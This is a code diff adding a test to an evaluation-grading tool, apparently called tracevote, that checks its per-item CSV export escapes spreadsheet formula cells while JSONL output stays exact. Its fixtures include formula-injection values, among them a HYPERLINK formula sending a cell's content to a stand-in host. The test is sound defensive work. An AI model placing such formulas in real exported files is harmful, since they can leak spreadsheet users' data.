@@ -18,6 +18,7 @@ from tests.conftest import REPO_ROOT
 from tests.dvcproject import run
 from tests.grading.test_cli import grade, predictions_for_gsm8k, sim_project
 from tracevote.cli.demo import BUILTIN_GSM8K
+from tracevote.core.csvtext import read_cell
 from tracevote.grading.items import ItemRow
 
 ROW_KEYS = [
@@ -157,3 +158,33 @@ def test_per_item_rows_carry_the_critics_verdicts(tmp_path: Path) -> None:
     assert len(scores) == summary["critic_scored"] and all(1.0 <= score <= 5.0 for score in scores)
     if scores:
         assert summary["critic_score"] == pytest.approx(sum(scores) / len(scores))
+
+
+# ids a third party's predictions file may hold, each a formula to a spreadsheet, and gold answers too; "-2", "-3",
+# "+4" are numbers to a spreadsheet and stay as they are
+FORMULA_IDS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx",
+               "-2", "'quoted"]
+FORMULA_GOLD = ["-3", "-\\frac{1}{2}", "7", "=1", "+4", "@", "-2", "5"]
+
+
+def test_per_item_csv_neutralises_formula_cells_and_jsonl_keeps_them_exact(tmp_path: Path) -> None:
+    gold = tmp_path / "gold.jsonl"
+    gold.write_text("".join(json.dumps({"id": item, "problem": f"problem {index}", "answer": answer}) + "\n"
+                            for index, (item, answer) in enumerate(zip(FORMULA_IDS, FORMULA_GOLD, strict=True))))
+    predictions = tmp_path / "preds.jsonl"
+    predictions.write_text("".join(json.dumps({"id": item, "thinking": "so", "content": f"\\boxed{{{answer}}}"}) + "\n"
+                                   for item, answer in zip(FORMULA_IDS, FORMULA_GOLD, strict=True)))
+    args = ("--dataset", "math500", "--pred-path", str(predictions), "--gold", str(gold))
+    for name in ("rows.jsonl", "rows.csv"):
+        result = grade(tmp_path, *args, "--per-item", str(tmp_path / name))
+        assert result.returncode == 0, result.stderr
+    exact = read_rows(tmp_path / "rows.jsonl")
+    assert [row["id"] for row in exact] == FORMULA_IDS and [row["gold"] for row in exact] == FORMULA_GOLD
+    with open(tmp_path / "rows.csv", newline="", encoding="utf-8") as handle:
+        cells = list(csv.DictReader(handle))
+    assert [row["id"] for row in cells] == ['\'=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "'+1+2",
+                                            "'-2+3", "'@SUM(A1:A9)", "'\tx", "'\rx", "-2", "''quoted"]
+    assert [row["gold"] for row in cells] == ["-3", "'-\\frac{1}{2}", "7", "'=1", "+4", "'@", "-2", "5"]
+    for row, cell_row in zip(exact, cells, strict=True):  # every text cell reads back as the JSON line has it
+        assert {key: read_cell(cell) for key, cell in cell_row.items() if isinstance(row[key], str)} == {
+            key: value for key, value in row.items() if isinstance(value, str)}
